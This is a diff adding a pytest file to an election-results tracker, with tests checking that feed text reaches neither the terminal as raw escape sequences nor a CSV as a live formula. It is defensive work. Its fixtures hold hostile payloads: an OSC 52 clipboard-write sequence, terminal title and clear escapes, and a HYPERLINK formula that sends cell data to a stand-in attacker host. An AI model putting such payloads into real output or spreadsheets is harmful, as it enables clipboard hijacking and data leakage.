@@ -1,0 +1,89 @@
+"""Output that cannot attack its reader (issue 19, finding 8): feed text reaches neither the
+terminal raw (escape sequences: a new window title, the clipboard via OSC 52, a cleared screen)
+nor a spreadsheet as a formula. The feed documents are constructed by the test."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from tracker.cli import main
+from tracker.core.csv_safe import safe_cell
+from tracker.core.export import contest_rows, write_contest_csv
+from tracker.core.model import Candidate, Contest, Election, Reporting, ReportingUnit, Snapshot
+from tracker.feeds.native import dump_native
+
+OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # write "echo pwned" to the clipboard
+TITLE = "\x1b]0;constructed title\x07"
+CLEAR = "\x1b[2J\x9b2J"  # CSI in 7-bit and 8-bit (C1) form
+FORMULA = '=HYPERLINK("http://attacker.test/?"&A1,"click")'
+
+
+def hostile_snapshot() -> Snapshot:
+    return Snapshot(
+        election=Election(id="constructed", name=f"Constructed election {TITLE}"),
+        contests=(
+            Contest(
+                id="c1",
+                name=f"Constructed race {CLEAR}",
+                candidates=(Candidate("a", f"{FORMULA}{OSC52}"), Candidate("b", "+1-555 @x")),
+                units=(
+                    ReportingUnit(
+                        id="u1",
+                        name="-Constructed unit",
+                        county="@county",
+                        reporting=Reporting.COMPLETE,
+                        votes={"a": {"Total": 5}, "b": {"Total": 3}},
+                    ),
+                ),
+            ),
+        ),
+        version="v1",
+    )
+
+
+def test_the_terminal_sees_no_control_characters_from_a_feed(tmp_path: Path, capsys) -> None:
+    path = tmp_path / "constructed_hostile.json"
+    path.write_bytes(dump_native(hostile_snapshot()))
+    assert main(["parse", str(path)]) == 0
+    assert main(["parse", str(path), "--json"]) == 0
+    out = capsys.readouterr().out
+    for control in ("\x1b", "\x07", "\x9b"):
+        assert control not in out
+    assert "\\u001b]52;c;" in out and "Constructed race" in out  # shown, visibly escaped
+    document = out[out.index("{") :]
+    assert json.loads(document)["election"]["name"].startswith("Constructed election")  # JSON stays valid
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+1-555", "'+1-555"),
+        ("-Constructed", "'-Constructed"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-2.5", "-2.5"),
+        (-3, -3),
+        ("Plain name", "Plain name"),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(cell: object, safe: object) -> None:
+    assert safe_cell(cell) == safe
+
+
+def test_a_race_exported_as_csv_holds_no_formula() -> None:
+    snap = hostile_snapshot()
+    out = io.StringIO()
+    write_contest_csv(contest_rows(snap.contests[0]), out, header=["from the feed\n=evil()"])
+    rows = [r for r in csv.reader(io.StringIO(out.getvalue())) if r and not r[0].startswith("#")]
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("-").isdigit()]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    assert all(line.startswith("# ") for line in out.getvalue().splitlines()[:1])
+    assert "\n=evil()" not in out.getvalue()
